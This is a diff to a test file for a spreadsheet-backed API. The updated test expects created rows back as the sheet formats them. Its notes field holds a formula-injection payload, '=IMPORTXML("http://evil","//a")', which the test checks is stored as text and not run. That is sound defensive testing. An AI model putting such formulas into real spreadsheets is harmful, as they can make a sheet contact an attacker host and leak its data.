@@ -132,10 +132,10 @@ describe("the cache", () => {
 });
 
 describe("creating rows", () => {
-  it("creates one row with the next id, writing values as text, never as formulas", async () => {
+  it("creates one row with the next id, writing values as text, never as formulas, and answers it as the sheet shows it", async () => {
     const res = await api.create("Products", { name: "Shelf", price: 10, in_stock: true, notes: '=IMPORTXML("http://evil","//a")' });
     expect(res.status).toBe(201);
-    expect(res.body.data).toEqual({ created: 1, rows: [{ id: "7", name: "Shelf", price: "10", in_stock: "TRUE", released: "", rating: "", notes: '=IMPORTXML("http://evil","//a")' }] });
+    expect(res.body.data).toEqual({ created: 1, rows: [{ id: "7", name: "Shelf", price: "$10.00", in_stock: "TRUE", released: "", rating: "", notes: '=IMPORTXML("http://evil","//a")' }] });
     const stored = (await raw(DEMO_SPREADSHEET_ID)).tabs[0]!.rows[7]!;
     expect(stored[0]).toEqual({ value: 7 });
     expect(stored[6]).toEqual({ value: '=IMPORTXML("http://evil","//a")' });
